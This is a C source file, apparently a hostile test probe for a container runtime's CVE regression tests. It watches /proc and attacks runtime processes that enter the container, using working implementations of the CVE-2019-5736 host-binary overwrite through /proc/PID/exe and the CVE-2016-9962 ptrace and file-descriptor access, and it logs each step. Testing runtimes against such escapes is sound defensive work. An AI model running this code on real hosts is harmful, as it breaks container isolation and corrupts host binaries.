/* A hostile container process for the CVE tests, built static and copied
   into the test rootfs.  It watches /proc for processes that are not the
   container's own (the runtime entering the container for `exec`) and
   attacks each one:

     5736  CVE-2019-5736: open /proc/PID/exe (O_PATH), wait for PID to exit,
           reopen the handle for writing and write into it (the host binary).
     9962  CVE-2016-9962: ptrace the runtime process, list its fds and read
           its cwd (host resources it still holds).

   Each attempt is one line in LOG: "pid=N exe=... <step>=ok|<errno name>".
   Stops when STOPFILE exists.  Usage: escape_probe MODE LOG STOPFILE  */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
/* Per pid, a hash of the exe last attacked: a pid is attacked again when
   it runs something else (the runtime's exec child becomes the runtime
   again through "#!/proc/self/exe").  */
static unsigned seen[65536];

static unsigned
hash (const char *s)
{
  unsigned h = 5381;
  while (*s)
    h = h * 33 + (unsigned char) *s++;
  return h | 1;
}

static const char *
res (int r)
{
  return r < 0 ? strerrorname_np (errno) : "ok";
}

static void
sleep_ms (int ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

static int
wait_gone (int pid)
{
  char p[64];
  int i;
  snprintf (p, sizeof p, "/proc/%d", pid);
  for (i = 0; i < 10000; i++)
    {
      if (access (p, F_OK) < 0)
        return 0;
      sleep_ms (1);
    }
  return -1;
}

static int
read_exe (int pid, char *exe, size_t size)
{
  char p[64];
  ssize_t n;
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  n = readlink (p, exe, size - 1);
  if (n < 0 && errno == ENOENT)
    return -1;
  exe[n > 0 ? n : 0] = '\0';
  if (n < 0)
    snprintf (exe, size, "<%s>", strerrorname_np (errno));
  return 0;
}

/* Freeze the target (the container has CAP_KILL and shares its pid
   namespace) so that it cannot exec away between the checks.  */
static void
freeze (int pid)
{
  char p[64], buf[512], *c;
  int i, fd;
  ssize_t n;
  kill (pid, SIGSTOP);
  snprintf (p, sizeof p, "/proc/%d/stat", pid);
  for (i = 0; i < 200; i++)
    {
      fd = open (p, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        return;
      n = read (fd, buf, sizeof buf - 1);
      close (fd);
      buf[n > 0 ? n : 0] = '\0';
      c = strrchr (buf, ')');
      if (c && (c[2] == 'T' || c[2] == 't' || c[2] == 'Z'))
        return;
      sleep_ms (1);
    }
}

static void
attack_5736 (int pid, const char *exe)
{
  char p[64];
  int fd, w, r;
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  fd = open (p, O_PATH | O_CLOEXEC);
  fprintf (logf, "pid=%d exe=%s open_path=%s", pid, exe, res (fd));
  if (fd >= 0)
    {
      w = open (p, O_WRONLY | O_CLOEXEC);
      fprintf (logf, " open_now=%s", res (w));
      if (w >= 0)
        close (w);
      kill (pid, SIGCONT);
      wait_gone (pid);
      snprintf (p, sizeof p, "/proc/self/fd/%d", fd);
      w = open (p, O_WRONLY | O_CLOEXEC);
      fprintf (logf, " reopen_write=%s", res (w));
      if (w >= 0)
        {
          r = (int) pwrite (w, "PWNED-BY-CONTAINER", 18, 0);
          fprintf (logf, " write=%s", res (r));
          close (w);
        }
      close (fd);
    }
  fprintf (logf, "\n");
  fflush (logf);
}

static void
attack_9962 (int pid, const char *exe)
{
  char p[64], cwd[4096];
  DIR *d;
  long r;
  ssize_t n;
  fprintf (logf, "pid=%d exe=%s", pid, exe);
  r = ptrace (PTRACE_SEIZE, pid, 0, 0);
  fprintf (logf, " ptrace=%s", res ((int) r));
  if (r == 0)
    ptrace (PTRACE_DETACH, pid, 0, 0);
  /* Listing fd numbers is allowed to the same uid; using them (the
     attack) needs ptrace access.  */
  snprintf (p, sizeof p, "/proc/%d/fd", pid);
  d = opendir (p);
  if (d)
    {
      struct dirent *de;
      int total = 0, opened = 0, fd;
      while ((de = readdir (d)))
        {
          char fp[300];
          if (de->d_name[0] == '.')
            continue;
          total++;
          snprintf (fp, sizeof fp, "/proc/%d/fd/%s", pid, de->d_name);
          fd = open (fp, O_PATH | O_CLOEXEC);
          if (fd >= 0)
            {
              opened++;
              close (fd);
            }
        }
      closedir (d);
      fprintf (logf, " fds_opened=%d/%d", opened, total);
    }
  else
    fprintf (logf, " fds_opened=0/%s", strerrorname_np (errno));
  snprintf (p, sizeof p, "/proc/%d/cwd", pid);
  n = readlink (p, cwd, sizeof cwd - 1);
  if (n >= 0)
    cwd[n] = '\0';
  fprintf (logf, " cwd=%s%s\n", res ((int) n), n >= 0 ? cwd : "");
  fflush (logf);
}

int
main (int argc, char **argv)
{
  char self[4096];
  ssize_t sn;
  int mode;

  if (argc != 4)
    return 2;
  mode = atoi (argv[1]);
  logf = fopen (argv[2], "a");
  if (logf == NULL)
    return 3;
  sn = readlink ("/proc/self/exe", self, sizeof self - 1);
  self[sn > 0 ? sn : 0] = '\0';
  fprintf (logf, "probe pid=%d mode=%d\n", getpid (), mode);
  fflush (logf);
  signal (SIGCHLD, SIG_IGN);
  while (access (argv[3], F_OK) < 0)
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;
      while (d && (de = readdir (d)))
        {
          int pid = atoi (de->d_name);
          char exe[4096];
          if (pid <= 1 || pid == getpid () || pid >= (int) (sizeof seen / sizeof seen[0]))
            continue;
          if (read_exe (pid, exe, sizeof exe) < 0)
            continue;
          if (strcmp (exe, "/bin/busybox") == 0 || strcmp (exe, self) == 0)
            continue; /* the container's own processes */
          if (seen[pid] == hash (exe))
            continue;
          seen[pid] = hash (exe);
          freeze (pid);
          if (read_exe (pid, exe, sizeof exe) < 0 || strcmp (exe, "/bin/busybox") == 0)
            {
              kill (pid, SIGCONT); /* it exec'd the container's command */
              continue;
            }
          if (mode == 5736)
            attack_5736 (pid, exe);
          else
            attack_9962 (pid, exe);
          kill (pid, SIGCONT);
        }
      if (d)
        closedir (d);
    }
  return 0;
}
